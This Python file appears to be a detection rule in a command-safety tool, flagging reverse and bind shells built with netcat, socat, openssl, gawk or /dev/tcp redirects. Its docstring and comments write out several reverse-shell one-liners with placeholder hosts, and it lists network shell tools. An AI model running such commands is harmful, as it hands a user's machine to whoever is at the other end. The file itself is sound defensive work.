"""Effect: a shell handed to another machine.  A reverse or bind shell gives whoever is at the
other end every power of the user: ``nc -e /bin/sh HOST PORT``, ``ncat -l 4444 --sh-exec …``,
``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``socat exec:bash tcp:HOST:PORT``, an interactive shell
piped into ``nc`` (the ``mkfifo`` form), and a shell fed by what ``nc``/``telnet``/``socat``
receive.  Code in interpreters is read for the same in ``code_reach``.
"""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.rules.common import HIGH, Ctx
from aish.safety.program_names import alias
from aish.safety.winpaths import typed_text

_NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "rustcat", "rcat", "sbd", "cryptcat",
            "ncat.exe", "nc.exe", "nc64.exe"}
_NETWORK_READERS = _NETCATS | {"telnet", "socat", "openssl", "websocat", "cryptcat", "sbd"}
_SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox", "pwsh", "powershell",
           "python", "python3", "perl", "ruby", "php", "cmd", "cmd.exe"}
_EXEC_OPTIONS = {"-e", "-c", "--exec", "--sh-exec", "--lua-exec", "-exec"}


def _prog(seg) -> tuple:
    """(program, its arguments) of a segment, ``sudo``/``busybox`` and paths taken off."""
    words = [w.text for w in seg.words]
    while words and words[0] in ("sudo", "doas", "nohup", "setsid", "exec", "busybox", "command"):
        words = words[1:]
    return (words[0].rsplit("/", 1)[-1], words[1:]) if words else ("", [])


def _runs_shell(command: str) -> bool:
    """The command starts a shell, named bare or by a path (``/bin/sh``, ``C:\\Windows\\System32\\cmd.exe``,
    ``C:\\Program Files\\Git\\bin\\bash.exe``)."""
    words = command.split()
    first = re.match(r"(?i)^\s*(\w:\\.*?\.exe\b|\S+)", command)
    name = re.split(r"[\\/]", first.group(1))[-1].lower().removesuffix(".exe") if first else ""
    return bool(words) and ((alias(name) or name) in _SHELLS or
                            re.search(r"\b(ba|z|da|k)?sh\s+-i\b|shell_executable", command) is not None)


def rule_shell_handed(c: Ctx) -> Optional[tuple]:
    prog, texts = c.prog.lower(), c.texts
    why = f"hands a shell to another machine: whoever is there runs commands as you ({c.text})"
    if prog == "busybox" and texts[:1] == ["nc"]:
        prog, texts = "nc", texts[1:]
    if prog in _NETCATS:
        typed = [typed_text(w) for w in c.args] if len(c.args) == len(texts) else texts  # C:\\x kept whole
        for t, value in zip(texts, typed[1:]):
            if (t in _EXEC_OPTIONS or re.fullmatch(r"-[a-zA-Z]*[ec]", t)) and _runs_shell(value):
                return HIGH, why  # not `nc -l -p 8080 -c 'echo HTTP/1.1 200 OK'`, a tiny server
        if any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1] for f in c.chain):
            return HIGH, why  # `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`
        return None
    if prog == "openssl" and "s_client" in texts and any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1]
                                                          for f in c.chain):
        return HIGH, why  # `/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect H:P > /tmp/s`
    if prog in ("awk", "gawk") and any(re.search(r"/inet[46]?/(tcp|udp)/", t) and "|&" in t for t in texts):
        return HIGH, why  # gawk's network files: commands read from the connection, run, answered back
    if prog == "socat":
        lowered = [t.lower() for t in texts]
        if any(re.match(r"^(exec|system):", t) for t in lowered) and \
                any(re.match(r"^(tcp|tcp4|tcp6|tcp-connect|tcp-listen|tcp4-listen|openssl|openssl-connect|ssl|udp)"
                             r"[\w-]*:", t) for t in lowered):
            return HIGH, why
        return None
    if prog in _SHELLS:
        network_redirect = any(r.target is not None and re.match(r"^/dev/(tcp|udp)/", r.target.text)
                               for r in c.seg.redirects)
        if network_redirect:
            return HIGH, why  # `bash -i >& /dev/tcp/HOST/PORT 0>&1`
        if any(_prog(f)[0] in _NETWORK_READERS and (_prog(f)[0] != "openssl" or "s_client" in _prog(f)[1])
               for f in c.chain):
            return HIGH, f"runs whatever another machine sends, as you ({c.text})"  # `nc HOST PORT | sh`
    return None


RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat", "awk", "gawk", "openssl"}}
